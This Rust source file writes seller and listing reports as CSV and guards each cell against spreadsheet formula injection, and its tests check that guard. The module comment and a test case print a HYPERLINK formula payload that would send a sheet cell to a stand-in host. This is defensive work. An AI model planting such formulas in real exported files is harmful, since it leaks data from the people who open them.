//! The one CSV writer of soi (reports and `soi sellers --format csv`), on the `csv` crate: RFC
//! 4180 quoting, CRLF line ends, and cells neutralised against formula injection.
//!
//! Why neutralise: analysts open these files in a spreadsheet, and a scraped seller name such
//! as `=HYPERLINK("http://x/?"&A1,"x")` would run as a formula there (leaking the sheet or
//! worse). Following OWASP's advice on CSV injection, a cell that starts with `=`, `+`, `-`,
//! `@`, a tab or a carriage return gets a `'` in front, which spreadsheets show as text and do
//! not evaluate. The one exception is a plain negative number (`-12`, `-0.5`: a minus, digits,
//! at most one `.` with digits after it), which no spreadsheet reads as anything but a number.
//! A program reading the CSV back gets the `'` too: a text cell that starts with `'` followed
//! by one of those characters was neutralised here.

use std::borrow::Cow;
use std::io::Write;

use crate::model::CountryReport;

/// Rows of one CSV table written to `W`, every cell neutralised.
pub struct CsvWriter<W: Write> {
    inner: ::csv::Writer<W>,
}

impl<W: Write> CsvWriter<W> {
    /// A table on `out` that starts with the `header` row.
    pub fn new(out: W, header: &[&str]) -> std::io::Result<Self> {
        let inner = ::csv::WriterBuilder::new()
            .terminator(::csv::Terminator::CRLF)
            .from_writer(out);
        let mut w = CsvWriter { inner };
        w.row(header)?;
        Ok(w)
    }

    /// One row.
    pub fn row<I, S>(&mut self, cells: I) -> std::io::Result<()>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let cells: Vec<String> = cells
            .into_iter()
            .map(|c| neutralise(c.as_ref()).into_owned())
            .collect();
        Ok(self.inner.write_record(&cells)?)
    }

    /// Flushes and hands the output back.
    pub fn finish(self) -> std::io::Result<W> {
        self.inner
            .into_inner()
            .map_err(|e| std::io::Error::other(e.error().to_string()))
    }
}

/// `cell` as spreadsheets will show it and never evaluate it (see the module doc).
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') if !negative_number(cell) => {
            Cow::Owned(format!("'{cell}"))
        }
        _ => Cow::Borrowed(cell),
    }
}

/// `-` then digits, optionally `.` and more digits: nothing a spreadsheet would evaluate.
fn negative_number(s: &str) -> bool {
    let Some(rest) = s.strip_prefix('-') else {
        return false;
    };
    let digits = |p: &str| !p.is_empty() && p.bytes().all(|b| b.is_ascii_digit());
    match rest.split_once('.') {
        Some((int, frac)) => digits(int) && digits(frac),
        None => digits(rest),
    }
}

pub fn sellers(c: &CountryReport) -> std::io::Result<Vec<u8>> {
    let mut w = CsvWriter::new(
        Vec::new(),
        &[
            "country",
            "marketplace",
            "seller_id",
            "name",
            "ship_from",
            "flagged_listings",
            "max_risk",
            "first_seen",
            "last_seen",
            "reasons",
            "linked_accounts",
            "complaints",
        ],
    )?;
    // Empty when not looked up (`cross_border` without extras), a count otherwise.
    let count = |checked: bool, n: usize| {
        if checked {
            n.to_string()
        } else {
            String::new()
        }
    };
    for d in &c.dossiers {
        let reasons: Vec<String> = d.reasons.iter().map(|(k, v)| format!("{k}:{v}")).collect();
        let cells: [&str; 12] = [
            &c.country,
            &d.seller.marketplace,
            &d.seller.id,
            d.seller.name.as_deref().unwrap_or_default(),
            d.seller.ship_from.as_deref().unwrap_or_default(),
            &d.listings.len().to_string(),
            &format!("{:.4}", d.max_risk),
            &d.first_seen.to_rfc3339(),
            &d.last_seen.to_rfc3339(),
            &reasons.join(";"),
            &count(d.links_checked, d.linked.len()),
            &count(d.complaints_checked, d.complaint_count()),
        ];
        w.row(cells)?;
    }
    w.finish()
}

pub fn listings(c: &CountryReport) -> std::io::Result<Vec<u8>> {
    let mut w = CsvWriter::new(
        Vec::new(),
        &[
            "country",
            "marketplace",
            "seller_id",
            "listing_id",
            "title",
            "url",
            "seen_at",
            "risk",
            "reason",
            "field",
            "start",
            "end",
            "evidence",
            "evidence_sha256",
        ],
    )?;
    for d in &c.dossiers {
        for l in &d.listings {
            for r in &l.verdict.reasons {
                let cells: [&str; 14] = [
                    &c.country,
                    &l.marketplace,
                    &d.seller.id,
                    &l.id,
                    &l.title,
                    l.url.as_deref().unwrap_or_default(),
                    &l.seen_at.to_rfc3339(),
                    &format!("{:.4}", l.risk),
                    &r.code,
                    &r.field,
                    &r.start.to_string(),
                    &r.end.to_string(),
                    &r.evidence,
                    l.evidence_sha256.as_deref().unwrap_or_default(),
                ];
                w.row(cells)?;
            }
        }
    }
    w.finish()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn table(cells: &[&str]) -> String {
        let mut w = CsvWriter::new(Vec::new(), &vec!["h"; cells.len()]).unwrap();
        w.row(cells).unwrap();
        String::from_utf8(w.finish().unwrap()).unwrap()
    }

    #[test]
    fn quotes_when_needed() {
        assert_eq!(
            table(&["a", "b,c", "say \"hi\""]),
            "h,h,h\r\na,\"b,c\",\"say \"\"hi\"\"\"\r\n"
        );
    }

    #[test]
    fn formulas_are_neutralised_numbers_kept() {
        for (cell, out) in [
            (
                "=HYPERLINK(\"http://x/?\"&A1,\"x\")",
                "'=HYPERLINK(\"http://x/?\"&A1,\"x\")",
            ),
            ("+1+1", "'+1+1"),
            ("-1+1", "'-1+1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("-", "'-"),
            ("-1e5", "'-1e5"),
            ("-12", "-12"),
            ("-0.5000", "-0.5000"),
            ("0.9100", "0.9100"),
            ("Cửa hàng", "Cửa hàng"),
            ("", ""),
        ] {
            assert_eq!(neutralise(cell), out, "{cell:?}");
        }
    }
}
